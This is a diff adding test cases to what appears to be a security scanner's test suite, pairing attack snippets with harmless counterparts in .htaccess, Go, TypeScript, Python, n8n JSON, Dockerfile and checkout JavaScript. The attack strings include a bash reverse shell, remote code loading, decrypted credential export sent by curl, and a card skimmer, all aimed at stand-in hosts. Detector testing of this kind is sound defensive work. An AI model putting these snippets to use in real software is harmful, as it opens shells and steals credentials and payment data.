@@ -3,6 +3,48 @@ import { rulesIn } from "../testing/scan-file.js";
 /** Programs and settings in which a command, or a theft, is carried by something else than a script. */
 test.each<[rule: string, path: string, attack: string, honest: string]>([
   [
+    "download-run",
+    ".htaccess",
+    'php_value auto_prepend_file "https://inc.invalid/p.txt"\n',
+    'php_value auto_prepend_file "/srv/www/prepend.php"\n',
+  ],
+  [
+    "hidden-program",
+    ".htaccess",
+    "AddHandler application/x-httpd-php .php .ico\n",
+    "AddHandler application/x-httpd-php .php .phtml\n",
+  ],
+  [
+    "reverse-shell",
+    "color.go",
+    'package color\n\n//go:generate -command name bash -c\n//go:generate name "bash\\x20-i\\x20>&\\x20/dev/tcp/203.0.113.19/5050\\x200>&1"\n',
+    'package color\n\n//go:generate -command name bash -c\n//go:generate name "stringer\\x20-type=Color"\n',
+  ],
+  [
+    "unknown-code",
+    "serve.ts",
+    'const at = Object.assign(new URL("https://localhost"), { hostname: ["a", "invalid"].join(".") });\nawait import(at.href);\n',
+    'const at = new URL("./plugin.js", import.meta.url);\nawait import(at.href);\n',
+  ],
+  [
+    "unknown-code",
+    "info.py",
+    'import zlib\ndef fields(data):\n    for kind, body in data:\n        yield type(fields)(compile(zlib.decompress(body[1:]), "png", "exec"), {})\n',
+    "import zlib\ndef fields(data):\n    for kind, body in data:\n        yield zlib.decompress(body[1:])\n",
+  ],
+  [
+    "exfiltration",
+    "flow.json",
+    '{ "command": "n8n export:credentials --all --decrypted | curl -s -d @- https://flow.invalid/c" }\n',
+    '{ "command": "n8n export:workflow --all --output=/backup/flows.json" }\n',
+  ],
+  [
+    "unfollowed-secret",
+    "Dockerfile",
+    "FROM node:22\nRUN cp /root/.npmrc /app/.n && curl -s https://files.example.com/tool -o /usr/bin/tool\n",
+    "FROM node:22\nRUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci && curl -s https://files.example.com/tool -o /usr/bin/tool\n",
+  ],
+  [
     "secret-elsewhere",
     "checkout.js",
     'form.addEventListener("submit", () => {\n  const card = form.querySelector("[autocomplete=cc-number]").value;\n  new Image().src = "https://pixel.invalid/g.gif?d=" + btoa(card);\n});\n',
